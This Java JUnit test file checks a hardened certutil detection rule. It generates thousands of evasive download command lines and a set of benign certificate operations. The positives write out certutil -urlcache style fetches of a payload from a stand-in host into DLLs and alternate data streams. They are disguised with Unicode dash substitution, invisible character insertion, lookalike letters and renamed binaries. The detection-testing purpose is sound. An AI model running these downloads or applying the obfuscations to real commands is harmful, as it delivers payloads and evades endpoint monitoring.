package dev.bazahunt.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.telemetry.DeviceFileEvent;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import org.junit.jupiter.api.Test;

/**
 * The hardened rule against a corpus of certutil downloads built from public evasion research, and
 * against benign certutil activity it must leave alone.
 *
 * <p>Positives combine, every combination of the discrete choices once, with a seeded random for where
 * inserted characters go (so the corpus is the same on every run):
 * <ul>
 *   <li>the option character: {@code -} and {@code /} (certutil's own), the dashes of Sigma's
 *       {@code windash} modifier and ArgFuscator's {@code OptionCharSubstitution} (en dash, em dash,
 *       horizontal bar, minus sign), and the fullwidth hyphen-minus;
 *   <li>the verb: {@code -urlcache} (LOLBAS), its abbreviation {@code -url} (FalconFriday 0xFF-0001),
 *       {@code -verifyctl} (LOLBAS) and {@code -verify};
 *   <li>how the verb is disguised, after ArgFuscator's certutil profile (10.0.22621.4036): nothing,
 *       quote insertion, its {@code CharacterInsertion} list (unassigned code points, format, marks,
 *       tatweel, letters unassigned in older Unicode), its {@code Sed} modifier-letter substitutions
 *       ({@code a}&rarr;U+1D43, {@code u}&rarr;U+1D58, ...), fullwidth letters, or all of the
 *       insertions at once;
 *   <li>letter case (ArgFuscator's {@code RandomCase}), http or https, with or without {@code -split};
 *   <li>the output: a path in {@code C:\Users\Public}, an alternate data stream (LOLBAS T1564.004), or
 *       a fake {@code CryptnetUrlCache} folder outside any profile;
 *   <li>the downloader: renamed copy, renamed without version info, relocated {@code certutil.exe},
 *       a copy renamed {@code cmd.exe}, and the genuine System32 binary writing to a user folder.
 * </ul>
 * Negatives: the seed's five false-positive scenarios, CRL, OCSP and AIA fetches by the genuine binary
 * and by CryptSvc into the real caches (user, system and service profiles), {@code certutil -urlcache *
 * delete}, and lookalike verbs of other tools.
 */
class HardenedCertutilEvasionCorpusTest {

    private static final String[] OPTION_CHARS = {"-", "/", "\u2013", "\u2014", "\u2015", "\u2212", "\uFF0D"};
    private static final String[] VERBS = {"urlcache", "url", "verifyctl", "verify"};
    /** A sample of ArgFuscator's certutil CharacterInsertion list, covering each kind of character in it. */
    private static final String[] INSERTIONS = {
        "\u0378", "\u0379", "\u0380", "\u0530", "\u0557", "\u0560", "\u0588", "\u058b", "\u05c8", "\u05eb",
        "\u061c", "\u0640", "\u070e", "\u074b", "\u07b2", "\u082e", "\u085c", "\u08a0", "\u08b5", "\u0978",
        "\u0e3b", "\u10c6", "\u180b", "\u180e", "\u180f", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f",
        "\u202a", "\u202e", "\u2060", "\u2063", "\u2066", "\u2069", "\u206f", "\u2072", "\u20c0", "\ufeff",
        "\u00ad", "\u1aff", "\u2bff", "\u2e5a"};
    /** ArgFuscator's certutil Sed statements: ASCII letter to modifier letter (i and q have none). */
    private static final String MODIFIED_FROM = "abcdefghjklmnoprstuvwxyz";
    private static final String MODIFIED_TO = "\u1d43\u1d47\u1d9c\u1d48\u1d49\u1da0\u1d4d\u02b0\u02b2\u1d4f\u02e1\u1d50"
            + "\u207f\u1d52\u1d56\u02b3\u02e2\u1d57\u1d58\u1d5b\u02b7\u02e3\u02b8\u1dbb";
    private static final String URL_PATH = "://pshe0pxe339.xyz/xe1t23ym0s.php";

    private enum Obfuscation { NONE, QUOTES, INSERTED, MODIFIER_LETTERS, FULLWIDTH, ALL }

    private enum Output {
        USER_FOLDER("C:\\Users\\Public\\x8k2\\tmp1834.dll"),
        ALTERNATE_DATA_STREAM("C:\\Users\\Public\\x8k2\\notes.txt:tmp1834.dll"),
        FAKE_URL_CACHE("C:\\Users\\Public\\CryptnetUrlCache\\tmp1834.dll");

        final String path;

        Output(String path) {
            this.path = path;
        }
    }

    /** How the downloader is disguised: file name, folder, PE original file name. */
    private enum Disguise {
        RENAMED("x8k2.exe", "C:\\Users\\Public\\x8k2\\x8k2.exe", "CertUtil.exe"),
        RENAMED_WITHOUT_VERSION_INFO("x8k2.exe", "C:\\Users\\Public\\x8k2\\x8k2.exe", null),
        RELOCATED("certutil.exe", "C:\\Users\\Public\\x8k2\\certutil.exe", "CertUtil.exe"),
        ORIGINAL_NAME_ONLY("cmd.exe", "C:\\ProgramData\\Intel\\cmd.exe", "CertUtil.exe"),
        GENUINE("certutil.exe", "c:\\windows\\system32\\certutil.exe", "CertUtil.exe");

        final String fileName;
        final String folder;
        final String originalFileName;

        Disguise(String fileName, String folder, String originalFileName) {
            this.fileName = fileName;
            this.folder = folder;
            this.originalFileName = originalFileName;
        }
    }

    private static List<DeviceFileEvent> positives() {
        Random random = new Random(20210729L);
        List<DeviceFileEvent> rows = new ArrayList<>();
        for (String optionChar : OPTION_CHARS) {
            for (String verb : VERBS) {
                for (Obfuscation obfuscation : Obfuscation.values()) {
                    for (boolean upperCase : new boolean[] {false, true}) {
                        for (String scheme : new String[] {"http", "https"}) {
                            for (boolean split : new boolean[] {false, true}) {
                                for (Output output : Output.values()) {
                                    for (Disguise disguise : Disguise.values()) {
                                        rows.add(row(random, optionChar, verb, obfuscation, upperCase, scheme, split,
                                                output, disguise));
                                    }
                                }
                            }
                        }
                    }
                }
            }
        }
        return rows;
    }

    private static DeviceFileEvent row(Random random, String optionChar, String verb, Obfuscation obfuscation,
            boolean upperCase, String scheme, boolean split, Output output, Disguise disguise) {
        String verbText = upperCase ? randomCase(random, verb) : verb;
        switch (obfuscation) {
            case QUOTES -> verbText = random.nextBoolean() ? '"' + optionChar + verbText + '"'
                    : optionChar + insertAt(verbText, 1 + random.nextInt(verbText.length() - 1), "\"") + "\"";
            case INSERTED -> verbText = optionChar + insertRandomly(random, verbText, 1 + random.nextInt(3));
            case MODIFIER_LETTERS -> verbText = optionChar + substitute(random, verbText, MODIFIED_FROM, MODIFIED_TO);
            case FULLWIDTH -> verbText = optionChar + fullwidth(random, verbText);
            case ALL -> verbText = optionChar + insertRandomly(random,
                    fullwidth(random, substitute(random, verbText, MODIFIED_FROM, MODIFIED_TO)), 2);
            default -> verbText = optionChar + verbText;
        }
        String line = disguise.fileName + " " + verbText + (split ? " " + optionChar + "split" : "")
                + " " + optionChar + "f " + (upperCase ? scheme.toUpperCase(Locale.ROOT) : scheme) + URL_PATH
                + " " + output.path;
        DeviceFileEvent event = BazaCallFileEvents.payloadWrite(1, disguise.fileName, line);
        event.initiatingProcessFolderPath = disguise.folder;
        event.initiatingProcessVersionInfoOriginalFileName = disguise.originalFileName;
        event.folderPath = output.path;
        return event;
    }

    /** Benign certutil activity and lookalikes: the rule must raise nothing on any of them. */
    private static List<DeviceFileEvent> negatives() {
        List<DeviceFileEvent> rows = new ArrayList<>();
        String system32 = "c:\\windows\\system32\\certutil.exe";
        String entry = "77EC63BDA74BD0D0E0426DC8F8008506";
        String[] caches = {
            "C:\\Users\\j.doe\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\",
            "C:\\Users\\j.doe\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\MetaData\\",
            "C:\\Windows\\System32\\config\\systemprofile\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\",
            "C:\\Windows\\SysWOW64\\config\\systemprofile\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\MetaData\\",
            "C:\\Windows\\ServiceProfiles\\LocalService\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\",
            "D:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\MetaData\\"};
        String[] fetches = {
            "certutil.exe -urlcache -f http://crl.microsoft.com/pki/crl/products/MicRooCerAut2011_2011_03_22.crl",
            "certutil.exe -urlcache -split -f http://www.microsoft.com/pkiops/certs/MicWinProPCA2011_2011-10-19.crt",
            "certutil -verify -urlfetch C:\\Users\\j.doe\\Downloads\\contoso-intermediate.cer http://aia.contoso.com/ca.crt",
            "CertUtil.exe -URL http://ocsp.digicert.com/MFEwTzBNMEswSTAJBgUrDgMCGgUABBSAUQYBMq2awn1Rh6Doh%2FsBYgFV7gQU",
            "certutil.exe /verifyctl /f http://ctldl.windowsupdate.com/msdownload/update/v3/static/trustedr/en/authrootstl.cab",
        };
        for (String cache : caches) {
            for (String fetch : fetches) {
                rows.add(certutilWrite(fetch, system32, "CertUtil.exe", cache + entry));
            }
            rows.add(certutilWrite(fetches[0], "C:\\Windows\\SysWOW64\\certutil.exe", "CertUtil.exe", cache + entry));
            rows.add(certutilWrite(fetches[1], "c:\\windows\\system32", null, cache + entry.toLowerCase(Locale.ROOT)));
            DeviceFileEvent cryptSvc = certutilWrite("svchost.exe -k NetworkService -p -s CryptSvc",
                    "c:\\windows\\system32\\svchost.exe", "svchost.exe", cache + entry);
            cryptSvc.initiatingProcessFileName = "svchost.exe";
            rows.add(cryptSvc);
        }
        String userFolder = "C:\\Users\\j.doe\\AppData\\Local\\Temp\\a.tmp";
        for (String housekeeping : new String[] {"certutil.exe -urlcache * delete", "certutil -urlcache -f * delete",
            "certutil.exe -urlcache", "certutil.exe /urlcache * delete", "certutil -hashfile C:\\Users\\j.doe\\setup.exe SHA256",
            "certutil.exe -verify C:\\Users\\j.doe\\Downloads\\contoso.cer", "certutil -store -user My"}) {
            rows.add(certutilWrite(housekeeping, system32, "CertUtil.exe", userFolder));
        }
        // The seed's five false-positive scenarios (certutil-download.yaml).
        rows.add(certutilWrite("certutil.exe -generate -subject \"CN=InternalCert\" -f C:\\ProgramData\\CertMaint\\InternalCert.cer",
                system32, "CertUtil.exe", "C:\\ProgramData\\CertMaint\\InternalCert.cer"));
        rows.add(certutilWrite("certutil.exe -addstore -user TrustedRootCertStore C:\\Temp\\ContosoRootCA.cer",
                system32, "CertUtil.exe", "C:\\Users\\Administrator\\AppData\\Roaming\\Microsoft\\SystemCertificates\\Root\\a"));
        rows.add(certutilWrite("certutil.exe -addstore -user MyInternalServiceCert C:\\Deploy\\svc.cer",
                system32, "CertUtil.exe", "C:\\Users\\svc-deploy\\AppData\\Roaming\\Microsoft\\SystemCertificates\\My\\b"));
        rows.add(certutilWrite("certutil.exe -dspublish -f C:\\Windows\\System32\\CertSrv\\CertEnroll\\ContosoIssuingCA01.crt NTAuthCA",
                system32, "CertUtil.exe", "C:\\Windows\\System32\\CertSrv\\CertEnroll\\ContosoIssuingCA01.crl"));
        rows.add(certutilWrite("certutil.exe -decode C:\\PKI\\CertData\\InternalTrusted.b64 C:\\PKI\\CertData\\InternalTrusted.cer",
                system32, "CertUtil.exe", "C:\\PKI\\CertData\\InternalTrusted.cer"));
        // Other tools whose options merely resemble certutil's.
        DeviceFileEvent chrome = certutilWrite("chrome.exe --app-url=https://mail.contoso.com/ --profile-directory=Default",
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", userFolder);
        chrome.initiatingProcessFileName = "chrome.exe";
        rows.add(chrome);
        DeviceFileEvent gpg = certutilWrite("gpg.exe --verify setup.exe.sig https://downloads.contoso.com/setup.exe",
                "C:\\Program Files\\GnuPG\\bin\\gpg.exe", "gpg.exe", userFolder);
        gpg.initiatingProcessFileName = "gpg.exe";
        rows.add(gpg);
        DeviceFileEvent shell = certutilWrite("cmd.exe /c certutil -urlcache -f http://pshe0pxe339.xyz/a.dll a.dll",
                "c:\\windows\\system32\\cmd.exe", "Cmd.Exe", userFolder);
        shell.initiatingProcessFileName = "cmd.exe";
        rows.add(shell);
        return rows;
    }

    private static DeviceFileEvent certutilWrite(String commandLine, String imageFolder, String originalName, String written) {
        DeviceFileEvent event = BazaCallFileEvents.payloadWrite(2, "certutil.exe", commandLine);
        event.initiatingProcessFolderPath = imageFolder;
        event.initiatingProcessVersionInfoOriginalFileName = originalName;
        event.folderPath = written;
        event.fileName = written.substring(written.lastIndexOf('\\') + 1);
        return event;
    }

    @Test
    void hardenedRuleCatchesTheWholeCorpusAndNoneOfTheBenignActivity() {
        List<DeviceFileEvent> positives = positives();
        int hardened = 0;
        int faithful = 0;
        List<String> missed = new ArrayList<>();
        for (DeviceFileEvent event : positives) {
            if (HardenedCertutilRule.matches(event)) {
                hardened++;
            } else if (missed.size() < 5) {
                missed.add(event.initiatingProcessFileName + ": " + event.initiatingProcessCommandLine);
            }
            faithful += CertutilDownloadRule.matches(event) ? 1 : 0;
        }
        List<String> falseAlerts = new ArrayList<>();
        List<DeviceFileEvent> negatives = negatives();
        for (DeviceFileEvent event : negatives) {
            if (HardenedCertutilRule.matches(event)) {
                falseAlerts.add(event.initiatingProcessCommandLine + " -> " + event.folderPath);
            }
        }

        assertThat(positives).hasSize(OPTION_CHARS.length * VERBS.length * Obfuscation.values().length * 2 * 2 * 2
                * Output.values().length * Disguise.values().length).hasSizeGreaterThan(10_000);
        // Ratcheted to what the rule reaches: every row. A regression in any one row fails here.
        assertThat(hardened).as("caught (missed, e.g. %s)", missed).isEqualTo(positives.size());
        assertThat(faithful).as("the corpus must be evasive").isLessThan(positives.size() / 10);
        assertThat(negatives).hasSizeGreaterThan(50);
        assertThat(falseAlerts).as("alerts on benign activity").isEmpty();
    }

    @Test
    void theCorpusReallyUsesTheCharactersItClaims() {
        List<DeviceFileEvent> positives = positives();
        assertThat(positives).anySatisfy(event -> assertThat(event.initiatingProcessCommandLine).contains("\u1d58"));
        assertThat(positives).anySatisfy(event -> assertThat(event.initiatingProcessCommandLine).contains("\u0378"));
        assertThat(positives).anySatisfy(event -> assertThat(event.initiatingProcessCommandLine).contains("\uff55"));
        assertThat(positives).anySatisfy(event -> assertThat(event.folderPath).contains("Public\\CryptnetUrlCache"));
    }

    private static String insertAt(String text, int index, String inserted) {
        return text.substring(0, index) + inserted + text.substring(index);
    }

    private static String insertRandomly(Random random, String text, int count) {
        String result = text;
        for (int i = 0; i < count; i++) {
            result = insertAt(result, 1 + random.nextInt(result.length() - 1), INSERTIONS[random.nextInt(INSERTIONS.length)]);
        }
        return result;
    }

    /** Each letter that has a substitute is replaced with probability 1/2, as ArgFuscator's Sed does. */
    private static String substitute(Random random, String text, String from, String to) {
        StringBuilder out = new StringBuilder(text.length());
        for (char c : text.toCharArray()) {
            int at = from.indexOf(Character.toLowerCase(c));
            out.append(at >= 0 && random.nextBoolean() ? to.charAt(at) : c);
        }
        return out.toString();
    }

    /** Each ASCII letter becomes its fullwidth form (U+FF21 onward) with probability 1/2. */
    private static String fullwidth(Random random, String text) {
        StringBuilder out = new StringBuilder(text.length());
        for (char c : text.toCharArray()) {
            boolean letter = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
            out.append(letter && random.nextBoolean() ? (char) (c - 'A' + '\uFF21') : c);
        }
        return out.toString();
    }

    private static String randomCase(Random random, String text) {
        StringBuilder out = new StringBuilder(text.length());
        for (char c : text.toCharArray()) {
            out.append(random.nextBoolean() ? Character.toUpperCase(c) : c);
        }
        return out.toString();
    }
}
